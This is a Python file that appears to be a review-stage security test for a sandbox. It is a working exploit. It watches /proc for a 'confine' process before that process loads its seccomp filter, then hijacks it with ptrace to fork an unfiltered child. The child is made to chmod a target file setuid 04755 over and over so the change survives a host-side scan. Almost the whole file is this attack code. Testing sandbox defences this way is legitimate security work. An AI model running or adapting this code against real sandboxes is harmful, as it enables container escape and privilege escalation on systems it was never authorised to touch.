# Review exploit (tests/sandbox/test_review_setid_ptrace.py): runs inside the sandbox.
# Runs inside the sandbox as the task's user: waits for the next process the controller starts
# through `confine`, and before that process has loaded its seccomp filter, uses ptrace to make
# it fork an unfiltered child; the tracer then holds that child and makes it chmod(TARGET, 04755)
# over and over (so it survives the host-side scan), until the container is removed.
import ctypes, os, sys, time
TARGET = sys.argv[1].encode() + b"\0"
LOG = open(sys.argv[2], "a", buffering=1)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, SYSCALL, GETREGS, SETREGS, POKEDATA, DETACH, GETEVENTMSG = 0x4206, 0x4207, 24, 12, 13, 5, 17, 0x4201
O_TRACESYSGOOD, O_TRACEFORK = 1, 2
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
def pt(req, pid, addr=0, data=0):
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace {req:#x} {pid}")
    return r
def regs(pid):
    r = Regs(); pt(GETREGS, pid, 0, ctypes.addressof(r)); return r
def setregs(pid, r): pt(SETREGS, pid, 0, ctypes.addressof(r))
def wait(pid):
    _, st = os.waitpid(pid, 0x40000000)  # __WALL
    return st
def poke(pid, addr, data):
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        pt(POKEDATA, pid, addr + i, int.from_bytes(data[i:i+8], "little"))
me = os.getpid()
seen = set(os.listdir("/proc"))
LOG.write("tracer up\n")
victim = None
while victim is None:
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in seen:
            continue
        try:
            st = open(f"/proc/{p}/status").read()
            cmd = open(f"/proc/{p}/cmdline", "rb").read()
        except OSError:
            seen.add(p); continue
        if "Seccomp_filters:\t2" in st:
            seen.add(p); continue
        if "Seccomp_filters:\t1" in st and b"confine" in cmd:
            try:
                pt(SEIZE, int(p), 0, O_TRACESYSGOOD | O_TRACEFORK)
            except OSError:
                continue  # still runc's non-dumpable init: try again
            victim = int(p); break
try:
    pt(INTERRUPT, victim)
    wait(victim)
    pt(SYSCALL, victim); wait(victim)            # a syscall-entry stop
    saved = regs(victim)
    r = regs(victim); r.orig_rax = 57            # fork()
    setregs(victim, r)
    pt(SYSCALL, victim)
    child = None
    while True:                                  # fork event, then syscall-exit
        st = wait(victim)
        if (st >> 16) == 1:                      # PTRACE_EVENT_FORK
            msg = ctypes.c_ulong(); pt(GETEVENTMSG, victim, 0, ctypes.addressof(msg)); child = msg.value
            pt(SYSCALL, victim); continue
        break
    saved.rip -= 2; saved.rax = saved.orig_rax   # re-run the victim's own system call
    setregs(victim, saved)
    pt(DETACH, victim)
    wait(child)
    filters = [l for l in open(f"/proc/{child}/status") if l.startswith("Seccomp_filters")]
    LOG.write(f"victim {victim} child {child} {filters}\n")
    base = regs(child)
    addr = (base.rsp - 4096) & ~0xF
    poke(child, addr, TARGET)
    n = 0
    while True:
        r = regs(child)
        r.rip = base.rip - 2; r.rax = 90; r.orig_rax = 90   # chmod(TARGET, 04755)
        r.rdi = addr; r.rsi = 0o4755
        setregs(child, r)
        pt(SYSCALL, child); wait(child)          # entry
        pt(SYSCALL, child); wait(child)          # exit
        n += 1
        if n == 1:
            LOG.write(f"chmod returned {ctypes.c_longlong(regs(child).rax).value}\n")
        time.sleep(0.0005)
except Exception as exc:
    LOG.write(f"failed: {exc!r}\n")
